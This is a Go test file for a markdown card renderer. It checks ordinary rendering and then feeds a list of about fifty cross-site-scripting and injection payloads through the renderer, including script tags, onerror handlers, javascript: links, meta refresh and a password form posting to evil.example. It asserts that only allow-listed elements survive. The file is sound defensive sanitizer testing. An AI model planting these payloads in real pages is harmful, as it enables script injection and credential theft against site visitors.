package view

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

var places = Places{Files: "/u/m/blob/main/", Raw: "/u/m/resolve/main/"}

// render renders a card that must be taken.
func render(t testing.TB, card string) string {
	t.Helper()
	out, err := RenderCard([]byte(card), places)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRenderCard(t *testing.T) {
	for _, c := range []struct{ name, card, want string }{
		{"front matter", "---\nlicense: mit\n---\n# Title\n", "<h1>Title</h1>"},
		{"front matter with CRLF", "---\r\nlicense: mit\r\n---\r\ntext", "<p>text</p>"},
		{"dashes without end", "---\nlicense: mit\n", "license: mit"},
		{"table", "|a|b|\n|-|-|\n|1|2|\n", "<td>1</td>"},
		{"code", "```go\na < b\n```\n", "<pre><code>a &lt; b"},
		{"link to a file", "[x](docs/a.md)", `href="/u/m/blob/main/docs/a.md"`},
		{"link to a part", "[x](#part)", `href="#part"`},
		{"link elsewhere", "[x](https://example.org/)", `href="https://example.org/" rel="nofollow noreferrer"`},
		{"image of the repo", "![x](./a.png)", `src="/u/m/resolve/main/a.png"`},
		{"image elsewhere", "![what](https://example.org/a.png)", `<a href="https://example.org/a.png" rel="nofollow noreferrer">what</a>`},
		{"badge", "[![what](https://example.org/a.svg)](https://example.org/)", `<em>what</em></a>`},
		{"element", "<details><summary>more</summary>\n\ntext\n</details>", "<summary>more</summary>"},
	} {
		if got := render(t, c.card); !strings.Contains(got, c.want) {
			t.Errorf("%s: %s\nwant %s", c.name, got, c.want)
		}
	}
}

// vectors are attempts to run a script, to load something from elsewhere, or to
// disturb the page.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)" alt="a">`,
	`<img src="https://evil.example/pixel.gif">`,
	`<img src="//evil.example/pixel.gif">`,
	`<img src="/\evil.example/pixel.gif">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<img srcset="https://evil.example/a.png 1x" src="a.png">`,
	`![x](javascript:alert(1))`,
	`![x](//evil.example/pixel.gif)`,
	`![x](\\evil.example/pixel.gif)`,
	"![x](https:evil.example/pixel.gif)",
	`<svg onload=alert(1)></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" java&#x0A;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`<javascript:alert(1)>`,
	`<a href="x" onclick="alert(1)" style="position:fixed;inset:0">x</a>`,
	`<div style="background:url(https://evil.example/a)">x</div>`,
	`<style>@import url(https://evil.example/a.css);</style>`,
	`<link rel="stylesheet" href="https://evil.example/a.css">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example/"><input name="password"><button>go</button></form>`,
	`<video src="https://evil.example/a.mp4" autoplay></video><audio src="x"></audio>`,
	`<body onload=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<a name="cookie" id="location">x</a>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<p title="--><script>alert(1)</script>">x</p>`,
	"<!--><script>alert(1)</script>-->",
	"```\n</code></pre><script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	"<a href=\"x\x00\" onmouseover\x0b=alert(1)>x</a>",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
}

// TestStoredCardsAreHarmless parses what becomes of each vector as a browser would
// and looks at every element and attribute.
func TestStoredCardsAreHarmless(t *testing.T) {
	for _, v := range vectors {
		holdHarmless(t, v, render(t, v))
		holdHarmless(t, v, render(t, "text before\n\n"+v+"\n\ntext after"))
	}
}

// holdHarmless fails if a rendered card has an element or attribute that can do
// anything. The list is the test's own.
func holdHarmless(t testing.TB, card, rendered string) {
	t.Helper()
	allowed := map[string]string{"a": "href rel", "img": "src alt title width height align", "td": "align colspan rowspan",
		"th": "align colspan rowspan", "p": "align", "div": "align", "h1": "align", "h2": "align", "h3": "align", "ol": "start"}
	plain := " html head body h4 h5 h6 br hr blockquote pre code em strong b i u s del ins sub sup small kbd samp var mark abbr ul " +
		"li dl dt dd span center details summary table thead tbody tfoot tr caption "
	root, err := html.Parse(strings.NewReader(rendered))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		attributes, known := allowed[n.Data]
		if !known && !strings.Contains(plain, " "+n.Data+" ") {
			t.Errorf("card %q: element %s in %s", card, n.Data, rendered)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			ok := strings.Contains(" "+attributes+" ", " "+a.Key+" ")
			switch a.Key {
			case "href":
				scheme, _, found := strings.Cut(value, ":")
				ok = ok && (!found || scheme == "http" || scheme == "https" || scheme == "mailto" || strings.ContainsAny(scheme, "/?#"))
			case "src":
				ok = ok && !strings.Contains(value, ":") && !strings.HasPrefix(value, "//") && !strings.Contains(value, `\`)
			}
			if !ok {
				t.Errorf("card %q: attribute %s=%q of %s in %s", card, a.Key, a.Val, n.Data, rendered)
			}
		}
	}
}

func TestCardTooLong(t *testing.T) {
	if out, err := RenderCard(make([]byte, MaxCard+1), places); err == nil {
		t.Errorf("rendered to %d bytes", len(out))
	}
}

// FuzzRenderCard renders any text and looks for what must not be there.
func FuzzRenderCard(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, card string) {
		holdHarmless(t, card, render(t, card))
	})
}
